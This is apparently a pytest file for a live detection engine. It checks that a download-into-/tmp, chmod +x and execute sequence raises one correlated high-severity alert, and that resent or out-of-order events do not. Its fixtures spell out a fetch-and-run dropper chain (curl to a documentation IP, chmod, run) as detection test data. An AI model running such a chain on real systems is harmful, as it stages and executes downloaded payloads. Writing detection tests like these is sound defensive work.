"""Live detection runs correlation rules across batches: download -> chmod +x -> run raises the correlated alert once,
a resent batch neither counts again nor fires again, and `generate: false` keeps the base rules' own alerts out."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from vigil.detect import load_rules
from vigil.server.detection import LiveDetection, load_ruleset

T = datetime(2026, 12, 7, 10, 0, tzinfo=UTC)
DROPPER = "Downloaded, Made Executable and Run From a Temporary Folder"


def _proc(seq: int, cmd: str, image: str, at: datetime) -> dict[str, Any]:
    return {"Timestamp": at, "DeviceId": "dev-1", "ReportId": seq, "ActionType": "ProcessCreated",
            "FolderPath": image, "FileName": image.rsplit("/", 1)[-1], "ProcessCommandLine": cmd, "ProcessId": seq}


def _titles(detector: LiveDetection, device: str, *rows: dict[str, Any]) -> list[str]:
    return [h.title for h in detector.hits(device, {"DeviceProcessEvents": list(rows)})]


def test_the_dropper_chain_across_batches_raises_one_correlated_alert() -> None:
    detector = LiveDetection(load_ruleset([]))
    download = _proc(1, "curl -s -o /tmp/x/p http://203.0.113.7/p", "/usr/bin/curl", T)
    chmod = _proc(2, "chmod +x /tmp/x/p", "/usr/bin/chmod", T + timedelta(seconds=1))
    run = _proc(3, "/tmp/x/p", "/tmp/x/p", T + timedelta(seconds=2))
    assert _titles(detector, "dev-1", download) == ["Download Into a Temporary Folder"]
    assert _titles(detector, "dev-1", chmod) == ["File in a Temporary Folder Made Executable"]
    hits = detector.hits("dev-1", {"DeviceProcessEvents": [run]})
    assert [h.title for h in hits] == ["Execution From a World-Writable Temporary Folder", DROPPER]
    correlated = hits[1]
    assert correlated.severity == "High" and "T1105" in correlated.techniques
    assert correlated.evidence["ProcessCommandLine"] == "/tmp/x/p"
    assert correlated.evidence["Correlation"]["events"] == 3
    assert correlated.evidence["Correlation"]["group"] == {"DeviceId": "dev-1"}
    # The agent resends the last batch (its ack was lost): no second correlated alert, nothing counted twice.
    assert _titles(detector, "dev-1", run) == ["Execution From a World-Writable Temporary Folder"]
    # Another device's run alone does not complete dev-1's chain.
    other = dict(run, DeviceId="dev-2", ReportId=9)
    assert _titles(detector, "dev-2", other) == ["Execution From a World-Writable Temporary Folder"]


def test_out_of_order_steps_do_not_correlate() -> None:
    detector = LiveDetection(load_ruleset([]))
    rows = [_proc(1, "/tmp/x/p", "/tmp/x/p", T),
            _proc(2, "chmod +x /tmp/x/p", "/usr/bin/chmod", T + timedelta(seconds=1)),
            _proc(3, "curl -s -o /tmp/x/p http://x/p", "/usr/bin/curl", T + timedelta(seconds=2))]
    assert DROPPER not in _titles(detector, "dev-1", *rows)


def test_generate_false_keeps_the_base_rule_quiet_until_the_correlation_fires(tmp_path: Path) -> None:
    (tmp_path / "r.yml").write_text("""title: whoami run
id: 0d9a6c4e-5f1b-4e8a-9c2d-3b4a5c6d7e8f
name: whoami_run
logsource: {product: linux, category: process_creation}
detection:
    selection: {CommandLine: whoami}
    condition: selection
level: informational
---
title: whoami three times
id: 1e0b7d5f-6a2c-4f9b-8d3e-4c5b6d7e8f90
correlation:
    type: event_count
    rules: [whoami_run]
    group-by: [DeviceId]
    timespan: 1m
    condition: {gte: 3}
level: medium
""")
    detector = LiveDetection(load_rules([tmp_path]).ruleset)
    rows = [_proc(i, "whoami", "/usr/bin/whoami", T + timedelta(seconds=i)) for i in range(1, 4)]
    assert _titles(detector, "dev-1", rows[0]) == []
    assert _titles(detector, "dev-1", rows[1], rows[2]) == ["whoami three times"]
